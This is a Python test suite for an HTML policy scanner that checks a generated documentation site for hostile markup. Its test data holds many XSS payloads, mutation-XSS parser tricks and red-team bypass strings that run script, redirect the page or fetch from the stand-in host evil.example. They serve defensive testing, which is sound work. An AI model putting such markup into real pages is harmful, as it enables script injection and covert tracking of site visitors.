"""The published-HTML policy (argkb.htmlpolicy): the real site is clean, every hostile page is caught.

Cases in tests/fixtures/html-policy/<case>/ overlay the valid fixture (a hostile docs/ page) and
name the page, the element and the problem the scan must report. They are built for real: with
`mkdocs build` (the plugin's on_post_build) and with `argkb build`, which keeps the last good site.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from argkb import htmlpolicy
from argkb.htmlpolicy import scan_page, scan_site
from argkb.mkdocs_config import site_url
from conftest import FIXTURES, REPO, run_argkb
from sitecheck import build, tree_bytes

CASES = sorted(p for p in (FIXTURES / "html-policy").iterdir() if p.is_dir())


def test_real_site_is_clean(repo_site: Path) -> None:
    assert len(list(repo_site.rglob("*.html"))) > 50
    assert scan_site(repo_site, site_url(REPO)) == []


def test_fixture_site_is_clean(fixture_site: Path) -> None:
    assert scan_site(fixture_site) == []


def _materialise(case: Path, root: Path) -> dict:
    shutil.copytree(FIXTURES / "valid", root)
    shutil.copytree(case / "files", root, dirs_exist_ok=True)
    return yaml.safe_load((case / "expect.yaml").read_text(encoding="utf-8"))


def _reported(output: str, expect: dict) -> bool:
    return any(
        line.startswith(expect["page"] + ":")
        and "[html-policy] " + expect["element"] in line
        and expect["problem"] in line
        for line in output.splitlines()
        for line in [line[line.find(expect["page"]) :]]
    )


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_plugin_fails_mkdocs_build(case: Path, tmp_path: Path) -> None:
    root = tmp_path / "kb"
    expect = _materialise(case, root)
    result = build(root, tmp_path / "site")
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    assert _reported(result.stderr, expect), result.stderr[-2000:]


def test_argkb_build_keeps_the_last_good_site(valid_kb: Path) -> None:
    site = valid_kb / "site"
    assert run_argkb("build", "--root", str(valid_kb), "--site-dir", str(site), timeout=300).returncode == 0
    good = tree_bytes(site)
    case = FIXTURES / "html-policy" / "remote-script"
    shutil.copytree(case / "files", valid_kb, dirs_exist_ok=True)
    expect = yaml.safe_load((case / "expect.yaml").read_text(encoding="utf-8"))

    failed = run_argkb("build", "--root", str(valid_kb), "--site-dir", str(site), timeout=300)
    assert failed.returncode == 1 and "Traceback" not in failed.stderr
    assert _reported(failed.stderr, expect), failed.stderr
    assert "previous site" in failed.stderr
    assert tree_bytes(site) == good
    assert [p.name for p in valid_kb.iterdir() if p.name.startswith(".site-")] == []


HOSTILE = [
    ('<a href="javascript:alert(1)">x</a>', "<a", "javascript: URL"),
    ('<a href=" JAVASCRIPT:alert(1)">x</a>', "<a", "javascript: URL"),
    ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "<img", "data: URL"),
    ('<a href="vbscript:msgbox(1)">x</a>', "<a", "vbscript: URL"),
    ('<a href="file:///etc/passwd">x</a>', "<a", "file: URL"),
    ('<form><button formaction="javascript:alert(1)">x</button></form>', "<button", "javascript: URL"),
    ('<video poster="https://evil.example/p.png"></video>', "<video", "from another host"),
    ('<img srcset="a.png 1x, https://evil.example/b.png 2x">', "<img", "from another host"),
    ('<img src="//evil.example/pixel.gif">', "<img", "from another host"),
    ('<link rel="preload" href="https://evil.example/f.woff2">', "<link", "from another host"),
    ('<link rel="icon" href="https://evil.example/favicon.ico">', "<link", "from another host"),
    ('<div style="background:url(https://evil.example/p.png)">x</div>', "<div", "from another host"),
    ('<div style="background:url(javascript:alert(1))">x</div>', "<div", "javascript: URL"),
    ("<style>body{background:url('//evil.example/p.png')}</style>", "<style>", "from another host"),
    ('<body onload="alert(1)">', "<body", "'onload'"),
    ('<svg><animate onbegin="alert(1)"/></svg>', "<animate", "'onbegin'"),
    ('<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>', "<set", "not allowed"),
    ('<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>', "<animate", "not allowed"),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "<meta", "refresh"),
    ('<meta http-equiv="refresh" content="0; URL=\'https://evil.example/\'">', "<meta", "off the site"),
    ("<embed src=x.swf>", "<embed", "not allowed"),
    ("<frame src=x.html>", "<frame", "not allowed"),
    ('<script type="module">import("https://evil.example/x.js")</script>', "<script", "inline script"),
    ('<script src="assets/javascripts/evil.js"></script>', "<script", "not the theme's"),
    ('<script src="../assets/argkb/x.js"></script>', "<script", "not the theme's"),
    ('<script id="__config" type="text/javascript">alert(1)</script>', "<script", "inline script"),
]


@pytest.mark.parametrize(("html", "element", "problem"), HOSTILE, ids=[h[0][:40] for h in HOSTILE])
def test_each_hostile_element_is_named(html: str, element: str, problem: str) -> None:
    page = "claims/x/index.html"
    found = scan_page(page, f"<html><head></head><body>\n<p>text</p>\n{html}\n</body></html>")
    assert found, html
    assert all(d.span.path == page and d.code == "html-policy" for d in found)
    assert any(d.span.line == 3 and d.message.startswith(element) and problem in d.message for d in found), found


def test_what_the_site_needs_is_allowed() -> None:
    page = "claims/x/index.html"
    html = """<html><head>
<link rel="stylesheet" href="../../assets/stylesheets/main.57a0d79d.min.css">
<script src="../../assets/javascripts/bundle.a5f9d56c.min.js"></script>
<script src="../../assets/argkb/mermaid-loader.js"></script>
<script type="application/ld+json">{"@type": "Claim"}</script>
<script id="__config" type="application/json">{"base": "../.."}</script>
<link rel="canonical" href="https://argkb.github.io/argkb/claims/x/">
</head><body><a href="https://doi.org/10.1/x">DOI</a> <a href="mailto:a@b.org">mail</a>
<img src="../../assets/images/x.png" srcset="../../a.png 2x">
<img src="https://argkb.github.io/argkb/assets/images/x.png">
<meta http-equiv="refresh" content="0; url=../other-claim/">
</body></html>"""
    assert scan_page(page, html, "https://argkb.github.io/argkb/") == []
    root_absolute = '<script src="/argkb/assets/javascripts/bundle.a5f9d56c.min.js"></script>'
    assert scan_page("404.html", root_absolute, "https://argkb.github.io/argkb/") == []
    assert scan_page("404.html", root_absolute.replace("/argkb/", "/other/"), "https://argkb.github.io/argkb/")


# Markup html.parser reads one way and a browser another: the policy must read it as the browser.
AS_BROWSERS_READ = [
    # scripting on, <noscript> holds text: the attribute ends early and the <img> is live (mutation XSS)
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "'onerror'"),
    # "<!-->" is a whole comment to a browser: what html.parser takes for the comment is live markup
    ("<!--><img src=x onerror=alert(1)>-->", "'onerror'"),
    ("<!---><img src=x onerror=alert(1)>-->", "'onerror'"),
    # inside <svg>, <style> is no raw-text element: the <img> leaves the SVG and is live
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", "'onerror'"),
]


@pytest.mark.parametrize(("html", "problem"), AS_BROWSERS_READ, ids=[h[0][:40] for h in AS_BROWSERS_READ])
def test_markup_is_read_as_a_browser_reads_it(html: str, problem: str) -> None:
    found = scan_page("claims/x/index.html", f"<html><head></head><body>\n{html}\n</body></html>")
    assert any(problem in d.message for d in found), found


def test_text_a_browser_does_not_read_as_markup_passes() -> None:
    for html in ("<title><img src=x onerror=alert(1)></title>", "<textarea><img src=x onerror=1></textarea>"):
        assert scan_page("claims/x/index.html", f"<html><head></head><body>{html}</body></html>") == []


def test_a_finding_only_the_html5_parser_sees_is_reported_at_line_1() -> None:
    html = '<html><body>\n<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></body></html>'
    found = scan_page("claims/x/index.html", html)
    assert [(d.span.line, d.span.col) for d in found] == [(1, 1)], found


_TAGS = ["a", "img", "svg", "image", "use", "link", "meta", "script", "style", "div", "iframe", "video", "form", "math"]
_ATTRS = ["href", "xlink:href", "src", "srcset", "style", "rel", "http-equiv", "content", "formaction", "poster", "x"]
_VALUES = [
    "javascript:alert(1)",
    "//evil.example/x",
    "https://evil.example/p.png",
    "stylesheet",
    "refresh",
    "0;url=https://evil.example/",
    "background:url(//evil.example/p)",
    "../ok/",
    "data:x",
]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from(_TAGS),
            st.lists(
                st.tuples(st.sampled_from(_ATTRS), st.sampled_from(_VALUES)), max_size=3, unique_by=lambda a: a[0]
            ),
        ),
        min_size=1,
        max_size=6,
    )
)
def test_both_parsers_find_the_same_in_plain_markup(elements: list) -> None:
    """Where html.parser and a browser read the markup alike, the HTML5 path finds what html.parser finds."""
    html = "".join(f"<{tag} " + " ".join(f'{n}="{v}"' for n, v in attrs) + f"></{tag}>" for tag, attrs in elements)
    html5 = htmlpolicy._html5_findings("p.html", html, "", "/", scripting=False)
    scanner = htmlpolicy._PageScanner("p.html", "", "/")
    scanner.feed(html)
    scanner.close()

    def problems(found: list) -> list[str]:  # not the element as written: HTML5 reads <image> as <img>
        return sorted(d.message[d.message.index(">: ") + 3 :] for d in found)

    assert problems(html5) == problems(scanner.found), html


def test_a_memo_rescans_only_changed_pages(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "index.html").write_text("<html><body><p>clean</p></body></html>", encoding="utf-8")
    memo: dict = {}
    assert scan_site(tmp_path, memo=memo) == []
    scanned: list[str] = []
    real_scan = htmlpolicy.scan_page
    monkeypatch.setattr(htmlpolicy, "scan_page", lambda page, *args: scanned.append(page) or real_scan(page, *args))
    (tmp_path / "b" / "index.html").write_text('<html><body><a href="javascript:x">x</a></body></html>')
    found = scan_site(tmp_path, memo=memo)
    assert scanned == ["b/index.html"] and [d.span.path for d in found] == ["b/index.html"]
    assert scan_site(tmp_path, memo=memo) == found and scanned == ["b/index.html"]  # still found, from the memo
    (tmp_path / "b" / "index.html").write_text("<html><body><p>clean again</p></body></html>")
    assert scan_site(tmp_path, memo=memo) == [] and scanned == ["b/index.html"] * 2


# Found by a red-team review (each made Chromium run script, leave the site or fetch from another
# host while the scan said nothing); every one must now be reported.
RED_TEAM = [
    '<div><template shadowrootmode="open"><svg><style><img src=x onerror="x=2"></style></svg></template></div>',
    '<script src="/\\evil.example/../assets/argkb/x.js"></script>',
    '<meta http-equiv="refresh" content="0;https://evil.example/r">',
    '<meta http-equiv="refresh" content="0;url=\\\\evil.example/r2">',
    '<body background="https://evil.example/bg.png">',
    '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
    '<img src="\\\\evil.example/b.png">',
    '<img src="/\\evil.example/c.png">',
    '<link rel=stylesheet href="\\\\evil.example/n.css">',
    '<img src="https:evil.example/k.png">',
    '<style>@import"https://evil.example/i.css";</style>',
    '<style>@import/**/"https://evil.example/i.css";</style>',
    '<div style="background:\\75 rl(https://evil.example/e.png)">x</div>',
    "<style>@font-face{font-family:f;src:u\\rl(https://evil.example/f.woff)}</style>",
    '<div style="background:url(\\2f\\2f evil.example/f.png)">x</div>',
    "<div style=\"background-image:image-set('https://evil.example/g.png' 1x)\">x</div>",
    '<svg><rect fill="url(https://evil.example/p.svg#p)"/></svg>',
    '<svg><rect mask="url(https://evil.example/m.svg#m)"/></svg>',
    '<svg cursor="url(https://evil.example/c.png), auto"></svg>',
    '<link rel="compression-dictionary" href="https://evil.example/dict">',
    '<a href="#y" ping="https://evil.example/ping">x</a>',
]


@pytest.mark.parametrize("html", RED_TEAM, ids=[h[:40] for h in RED_TEAM])
def test_what_a_red_team_got_through_is_reported(html: str) -> None:
    assert scan_page("claims/x/index.html", f"<html><head></head><body>\n{html}\n</body></html>"), html
